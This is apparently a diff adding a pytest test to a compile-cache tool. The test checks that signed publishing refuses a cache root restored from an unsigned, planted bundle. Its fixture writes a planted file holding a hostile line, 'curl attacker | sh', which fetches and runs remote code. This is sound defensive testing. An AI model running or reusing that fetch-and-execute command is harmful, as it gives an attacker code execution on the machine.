@@ -330,6 +330,46 @@ def test_prebake_url_needs_a_laid_out_root_then_publishes_what_the_server_compil
     assert doc["publish"]["files"] == 4  # one kernel per request shape
 
 
+def test_a_signing_prebake_url_refuses_a_root_restored_from_a_bundle_its_key_did_not_sign(tmp_path, profiles_file):
+    """With --url, ROOT was restored beforehand: from a bundle a store writer planted, when that restore
+    checked no signature. prebake published all of ROOT signed, and every pod requiring signatures
+    then restored the planted files. It refuses (exit 9) before the warmup, and publishes nothing;
+    a ROOT restored from what the key signed is published."""
+    planted = tmp_path / "planted" / "inductor" / "fxgraph"
+    planted.mkdir(parents=True)
+    (planted / "evil.py").write_text("import os; os.system('curl attacker | sh')\n")
+    cli("publish", "--from", str(tmp_path / "planted"), "--model", "m")
+    cli("keygen", "ci", "--dir", str(tmp_path / "k"))
+    key = str(tmp_path / "k" / "ci.key")
+    root = tmp_path / "A"
+    cli("restore", "--into", str(root), "--model", "m")  # no --require-signature: the planted bundle is laid
+    assert (root / "inductor" / "fxgraph" / "evil.py").exists()
+    exports = envfile.read(root / "kcache.env")
+    with OpenAIServer(compile_into=Path(exports["TORCHINDUCTOR_CACHE_DIR"])) as server:
+        out = cli("prebake", "--root", str(root), "--url", server.url, "--profiles", str(profiles_file), "--model", "m",
+                  "--signing-key", key, "--json", code=ExitCode.SIGNATURE)  # fmt: skip
+        assert not server.completions  # refused before the warmup
+    doc = json.loads(out.stdout)
+    assert doc["exit_code"] == ExitCode.SIGNATURE and "did not sign" in doc["error"]
+    pod = cli("restore", "--into", str(tmp_path / "pod"), "--model", "m", "--trusted-key",
+              str(tmp_path / "k" / "ci.pub"), "--require-signature", "--json")  # fmt: skip
+    assert json.loads(pod.stdout)["status"] == "error"  # still only the planted, unsigned bundle: nothing signed
+    assert not (tmp_path / "pod" / "inductor" / "fxgraph" / "evil.py").exists()
+    # A ROOT restored from a bundle the key signed is published.
+    clean = tmp_path / "clean"
+    (clean / "inductor").mkdir(parents=True)
+    (clean / "inductor" / "good.so").write_bytes(b"kernel")
+    cli("publish", "--from", str(clean), "--model", "m", "--signing-key", key)
+    signed = tmp_path / "B"
+    cli("restore", "--into", str(signed), "--model", "m", "--trusted-key", str(tmp_path / "k" / "ci.pub"),
+        "--require-signature")  # fmt: skip
+    exports = envfile.read(signed / "kcache.env")
+    with OpenAIServer(compile_into=Path(exports["TORCHINDUCTOR_CACHE_DIR"])) as server:
+        doc = json.loads(cli("prebake", "--root", str(signed), "--url", server.url, "--profiles", str(profiles_file),
+                             "--model", "m", "--signing-key", key, "--json").output)  # fmt: skip
+    assert doc["publish"]["created"] and doc["warmup"]["status"] == "ok"
+
+
 # ---- readiness signals and a failed warmup ---------------------------------------------------------
 
 
